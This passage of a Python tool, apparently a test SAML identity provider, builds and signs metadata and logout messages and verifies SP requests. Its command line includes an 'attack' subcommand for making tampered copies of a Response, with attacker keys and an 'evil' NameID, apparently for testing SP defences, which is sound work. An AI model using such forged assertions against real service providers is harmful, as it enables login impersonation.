    descriptor = element("md:EntityDescriptor", prefixes=["ds"], entityID=a.idp, ID=new_id(),
                         validUntil=a.valid_until)
    idp = sub(descriptor, "md:IDPSSODescriptor",
              WantAuthnRequestsSigned="true" if a.want_authn_requests_signed else "false",
              protocolSupportEnumeration=samlp.NAMESPACE)
    for cert in filter(None, (a.cert, a.second_cert)):
        key_info(sub(idp, "md:KeyDescriptor", use="signing"), cert)
    if a.slo:
        for binding in (BINDING_HTTP_REDIRECT, BINDING_HTTP_POST):
            sub(idp, "md:SingleLogoutService", Binding=binding, Location=a.slo)
    sub(idp, "md:NameIDFormat", saml.NAMEID_FORMAT_EMAILADDRESS)
    for binding in (BINDING_HTTP_REDIRECT, BINDING_HTTP_POST):
        sub(idp, "md:SingleSignOnService", Binding=binding, Location=a.sso)
    if a.sign:
        place_signature(descriptor, signature_template(a.sign_alg, descriptor.get("ID")))
    etree.indent(descriptor)
    if a.sign:
        descriptor = sign_document(descriptor, [descriptor.get("ID")], a.key, a.cert)
    emit(serialize(descriptor))


# ---------------------------------------------------------------- logout messages (IdP to SP)

def redirect_url(location, param, message, relay_state, key_path, alg):
    """The HTTP-Redirect binding: DEFLATE, base64, URL-encode, and sign the query (3.4.4.1)
    unless key_path is None."""
    pairs = [(param, deflate_and_base64_encode(etree.tostring(message)).decode())]
    if relay_state is not None:
        pairs.append(("RelayState", relay_state))
    if key_path is not None:
        pairs.append(("SigAlg", SIGN_ALGS[alg][0]))
    query = "&".join(f"{name}={urllib.parse.quote(value, safe='')}" for name, value in pairs)
    if key_path is not None:
        private_key = serialization.load_pem_private_key(read(key_path), password=None)
        signature = private_key.sign(query.encode(), padding.PKCS1v15(), SIGN_ALGS[alg][2]())
        query += "&Signature=" + urllib.parse.quote(base64.b64encode(signature).decode(), safe="")
    return location + ("&" if "?" in location else "?") + query


def deliver(message, param, a):
    """Prints the message for its binding, signed unless --no-sign."""
    if not a.no_sign and not (a.key and a.cert):
        raise ToolError("signing needs --key and --cert (or --no-sign)")
    if a.binding == "redirect":
        key = None if a.no_sign else a.key
        emit(redirect_url(a.slo, param, message, a.relay_state, key, a.sign_alg).encode())
        return
    if not a.no_sign:
        place_signature(message, signature_template(a.sign_alg, message.get("ID")))
    etree.indent(message)
    if not a.no_sign:
        message = sign_document(message, [message.get("ID")], a.key, a.cert)
    emit(serialize(message))


def cmd_logout_request(a):
    request = element("samlp:LogoutRequest", prefixes=["saml"], ID=new_id(), Version="2.0",
                      IssueInstant=instant(), Destination=a.slo)
    sub(request, "saml:Issuer", a.idp)
    sub(request, "saml:NameID", a.nameid, Format=a.nameid_format)
    if a.session_index:
        sub(request, "samlp:SessionIndex", a.session_index)
    deliver(request, "SAMLRequest", a)


def cmd_logout_response(a):
    response = element("samlp:LogoutResponse", prefixes=["saml"], ID=new_id(), Version="2.0",
                       IssueInstant=instant(), Destination=a.slo, InResponseTo=a.in_response_to)
    sub(response, "saml:Issuer", a.idp)
    add_status(response, a.status, a.status_message)
    deliver(response, "SAMLResponse", a)


# ---------------------------------------------------------------- messages from the SP

def sp_metadata(path):
    """(AuthnRequestsSigned, signing certificates as PEM bytes) of an SP's metadata."""
    root = parse_xml(read(path))
    descriptor = root.find(".//md:SPSSODescriptor", NS)
    if descriptor is None:
        raise ToolError(f"{path} has no md:SPSSODescriptor")
    certs = [pem_of(cert) for key in descriptor.findall("md:KeyDescriptor", NS)
             if key.get("use", "signing") == "signing"
             for cert in key.findall("ds:KeyInfo/ds:X509Data/ds:X509Certificate", NS)]
    return descriptor.get("AuthnRequestsSigned") in ("true", "1"), certs


def raw_query_params(query):
    """The parameters of a query string (or URL), values still URL-encoded as sent."""
    query = query.split("?", 1)[1] if "?" in query else query
    params = {}
    for part in filter(None, query.split("#")[0].split("&")):
        name, _, value = part.partition("=")
        if name in params:
            raise ToolError(f"parameter {name} appears twice")
        params[name] = value
    return params


def verify_redirect(params, param, certs):
    """(signed, valid) of an HTTP-Redirect message: the signature covers the parameters exactly as
    they were encoded in the query (SAML bindings 3.4.4.1)."""
    if "Signature" not in params:
        return False, None
    digest = REDIRECT_HASHES.get(urllib.parse.unquote_plus(params.get("SigAlg", "")))
    if digest is None:
        return True, False
    signed = "&".join(f"{name}={params[name]}" for name in (param, "RelayState", "SigAlg")
                      if name in params).encode()
    signature = base64.b64decode(urllib.parse.unquote_plus(params["Signature"]))
    for pem in certs:
        try:
            x509.load_pem_x509_certificate(pem).public_key().verify(
                signature, signed, padding.PKCS1v15(), digest())
            return True, True
        except InvalidSignature:
            continue
    return True, False


def verify_posted(xml, certs):
    """(signed, valid) of an HTTP-POST message: its root's enveloped signature, which must
    reference the root, checked by xmlsec1 with each metadata key (the KeyInfo is ignored)."""
    root = parse_xml(xml)
    sig = own_signature(root)
    if sig is None:
        return False, None
    references = sig.findall("ds:SignedInfo/ds:Reference", NS)
    if len(references) != 1 or references[0].get("URI") != "#" + root.get("ID", ""):
        return True, False
    for key in sig.findall("ds:KeyInfo", NS):
        sig.remove(key)
    return True, any(verify_signature(root, sig, pem, "--pubkey-cert-pem") for pem in certs)


def read_sp_message(a, params_names, certs):
    """The SP's message (XML bytes) and (signed, signature_valid) of its signature."""
    if a.post_b64:
        xml = base64.b64decode(a.post_b64)
        return xml, verify_posted(xml, certs)
    params = raw_query_params(a.query)
    param = next((name for name in params_names if name in params), None)
    if param is None:
        raise ToolError(f"the query has no {' or '.join(params_names)}")
    xml = decode_base64_and_inflate(urllib.parse.unquote_plus(params[param]))
    return xml, verify_redirect(params, param, certs)


def pysaml2_parse(parser, xml, what):
    try:
        message = parser(xml)
    except Exception as e:  # pysaml2 and defusedxml raise many kinds
        raise ToolError(f"pysaml2 cannot read the {what}: {e!r}") from e
    if message is None:
        raise ToolError(f"not a {what}")
    return message


def text_of(el):
    return el.text if el is not None else None


def report(fields, signature):
    signed, valid = signature
    print(json.dumps({**fields, "signed": signed, "signature_valid": valid}))
    if valid is False:
        print("saml-idp: the message's signature is missing or invalid", file=sys.stderr)
        sys.exit(1)


def cmd_parse_authn(a):
    required, certs = sp_metadata(a.sp_metadata)
    xml, (signed, valid) = read_sp_message(a, ["SAMLRequest"], certs)
    request = pysaml2_parse(samlp.authn_request_from_string, xml, "samlp:AuthnRequest")
    policy = request.name_id_policy
    report({"id": request.id, "issuer": text_of(request.issuer),
            "acs_url": request.assertion_consumer_service_url,
            "destination": request.destination, "protocol_binding": request.protocol_binding,
            "name_id_policy_format": policy.format if policy is not None else None,
            "force_authn": request.force_authn in ("true", "1")},
           (signed, False if required and not signed else valid))


def cmd_parse_logout(a):
    _, certs = sp_metadata(a.sp_metadata)
    xml, signature = read_sp_message(a, ["SAMLRequest", "SAMLResponse"], certs)
    kind = etree.QName(parse_xml(xml)).localname
    if kind == "LogoutRequest":
        message = pysaml2_parse(samlp.logout_request_from_string, xml, kind)
        index = message.session_index[0] if message.session_index else None
        fields = {"in_response_to": None, "nameid": text_of(message.name_id),
                  "session_index": text_of(index), "status": None}
    elif kind == "LogoutResponse":
        message = pysaml2_parse(samlp.logout_response_from_string, xml, kind)
        fields = {"in_response_to": message.in_response_to, "nameid": None, "session_index": None,
                  "status": message.status.status_code.value}
    else:
        raise ToolError(f"not a logout message: {kind}")
    report({"kind": kind, "id": message.id, "issuer": text_of(message.issuer),
            "destination": message.destination, **fields}, signature)


# ---------------------------------------------------------------- command line

def parser():
    p = argparse.ArgumentParser(prog="saml-idp", description=__doc__,
                                formatter_class=argparse.RawDescriptionHelpFormatter)
    commands = p.add_subparsers(dest="command", required=True, metavar="SUBCOMMAND")

    keys = argparse.ArgumentParser(add_help=False)
    keys.add_argument("--key", help="IdP private key, PEM")
    keys.add_argument("--cert", help="IdP certificate, PEM")
    keys.add_argument("--sign-alg", choices=SIGN_ALGS, default="rsa-sha256")

    status = argparse.ArgumentParser(add_help=False)
    status.add_argument("--status", default=samlp.STATUS_SUCCESS, metavar="URI")
    status.add_argument("--status-message", default="The identity provider refused the request")

    logout = argparse.ArgumentParser(add_help=False, parents=[keys])
    logout.add_argument("--idp", required=True)
    logout.add_argument("--sp", help="accepted for symmetry; logout messages name no SP")
    logout.add_argument("--slo", required=True)
    logout.add_argument("--binding", choices=("post", "redirect"), default="post")
    logout.add_argument("--relay-state")
    logout.add_argument("--no-sign", action="store_true")

    sp_message = argparse.ArgumentParser(add_help=False)
    sp_message.add_argument("--sp-metadata", required=True)
    source = sp_message.add_mutually_exclusive_group(required=True)
    source.add_argument("--query", help="HTTP-Redirect query string, or the whole URL")
    source.add_argument("--post-b64", help="HTTP-POST message, base64")

    r = commands.add_parser("response", parents=[keys, status], help="a SAML Response")
    r.add_argument("--idp", required=True)
    r.add_argument("--sp", required=True)
    r.add_argument("--acs", required=True)
    r.add_argument("--in-response-to")
    r.add_argument("--nameid")
    r.add_argument("--nameid-format", default=saml.NAMEID_FORMAT_EMAILADDRESS)
    r.add_argument("--attr", action="append", default=[], metavar="NAME=VALUE")
    r.add_argument("--session-index")
    r.add_argument("--sign-response", action=argparse.BooleanOptionalAction, default=True)
    r.add_argument("--sign-assertion", action=argparse.BooleanOptionalAction, default=True)
    r.add_argument("--encrypt", action="store_true")
    r.add_argument("--sp-cert")
    r.add_argument("--enc-alg", choices=ENC_ALGS, default="aes256-cbc")
    r.add_argument("--key-transport", choices=KEY_TRANSPORTS, default="rsa-oaep-mgf1p")
    r.add_argument("--oaep-digest", choices=OAEP_DIGESTS, default="sha1")
    r.add_argument("--issue-offset", type=int, default=0)
    r.add_argument("--not-before-offset", type=int, default=0)
    r.add_argument("--not-on-or-after-offset", type=int, default=300)
    r.add_argument("--session-not-on-or-after-offset", type=int)
    destination = r.add_mutually_exclusive_group()
    destination.add_argument("--destination")
    destination.add_argument("--no-destination", action="store_true")
    r.add_argument("--recipient")
    audience = r.add_mutually_exclusive_group()
    audience.add_argument("--audience", action="append")
    audience.add_argument("--no-audience", action="store_true")
    r.add_argument("--assertion-issuer")
    r.add_argument("--response-issuer")
    r.add_argument("--assertion-id")
    r.set_defaults(run=cmd_response)

    at = commands.add_parser("attack", parents=[keys], help="an attacked copy of a Response")
    at.add_argument("--kind", required=True, choices=ATTACKS)
    at.add_argument("--in", dest="input", required=True, metavar="FILE")
    at.add_argument("--attacker-key")
    at.add_argument("--attacker-cert")
    at.add_argument("--evil-nameid", default="mallory@evil.test")
    at.add_argument("--nameid")
    at.add_argument("--suffix", default=".evil.test")
    at.add_argument("--url")
    at.set_defaults(run=cmd_attack)

    m = commands.add_parser("metadata", parents=[keys], help="IdP metadata")
    m.add_argument("--idp", required=True)
    m.add_argument("--sso", required=True)
    m.add_argument("--slo")
    m.add_argument("--sign", action="store_true")
    m.add_argument("--valid-until", metavar="ISO8601")
    m.add_argument("--second-cert")
    m.add_argument("--want-authn-requests-signed", action="store_true")
    m.set_defaults(run=cmd_metadata)

    lreq = commands.add_parser("logout-request", parents=[logout], help="an IdP LogoutRequest")
    lreq.add_argument("--nameid", required=True)
    lreq.add_argument("--nameid-format", default=saml.NAMEID_FORMAT_EMAILADDRESS)
    lreq.add_argument("--session-index")
    lreq.set_defaults(run=cmd_logout_request)

    lres = commands.add_parser("logout-response", parents=[logout, status],
                               help="an IdP LogoutResponse")
    lres.add_argument("--in-response-to", required=True)
    lres.set_defaults(run=cmd_logout_response)

    commands.add_parser("parse-authn", parents=[sp_message],
                        help="decode and verify an SP's AuthnRequest"
                        ).set_defaults(run=cmd_parse_authn)
    commands.add_parser("parse-logout", parents=[sp_message],
                        help="decode and verify an SP's LogoutRequest or LogoutResponse"
                        ).set_defaults(run=cmd_parse_logout)
    return p


def main():
    args = parser().parse_args()
    try:
        args.run(args)
    except (ToolError, OSError, ValueError, etree.XMLSyntaxError) as e:
        print(f"saml-idp: {e}", file=sys.stderr)
        sys.exit(1)


if __name__ == "__main__":
    main()
